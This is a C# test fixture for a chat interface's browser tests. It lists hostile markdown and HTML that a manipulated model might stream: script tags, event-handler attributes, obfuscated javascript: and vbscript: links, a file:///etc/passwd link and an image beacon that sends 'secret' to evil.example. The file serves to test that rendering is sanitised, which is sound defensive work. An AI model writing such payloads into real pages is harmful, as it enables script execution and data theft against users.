namespace AiStudio.BrowserTests.Chat;

/// <summary>What a model that was talked into it might write, in the pieces that a stream brings.</summary>
internal static class HostileMarkdown
{
    public const string LastWord = "survived";

    public static IReadOnlyList<string> Pieces { get; } =
    [
        "<script>window.ran++</script>\n\n",
        "<img src=x onerror=\"window.ran++\">\n\n",
        "<svg onload=window.ran++><image href=\"https://evil.example/a.png\"/></svg>\n\n",
        "[click](javascript:window.ran++) [click](JaVaScRiPt&#58;window.ran++) [click](\u0001javascript:window.ran++)\n\n",
        "[data](data:text/html,<script>window.ran++</script>) [vb](vbscript:x) [file](file:///etc/passwd) [app](/sign-out)\n\n",
        "![leak](https://evil.example/?q=secret) ![](//evil.example/b.png) ![x](/account){onerror=window.ran++}\n\n",
        "[link](https://good.example){onclick=window.ran++ .evil style=position:fixed}\n\n",
        "# Heading {#nav onclick=window.ran++}\n\n",
        "<a href=\"javascript:window.ran++\" onmouseover=\"window.ran++\">hover</a>\n\n",
        "<iframe srcdoc=\"<script>parent.ran++</script>\"></iframe><style>body{display:none}</style>\n\n",
        "```html\" onclick=\"window.ran++\n<script>window.ran++</script>\n```\n\n",
        "| a | b |\n|---|---|\n| <img src=x onerror=window.ran++> | [x](javascript:window.ran++) |\n\n",
        "[ref]: javascript:window.ran++ \"t\" onclick=window.ran++\n\n[ref] <javascript:window.ran++> <https://good.example/\"onclick=window.ran++>\n\n",
        "![media](https://evil.example/v.mp4) https://www.youtube.com/watch?v=aaaaaaaaaaa\n\n",
        "<scr", "ipt>window.ran++</scr", "ipt> <im", "g src=x onerr", "or=window.ran++>\n\n",
        LastWord,
    ];
}
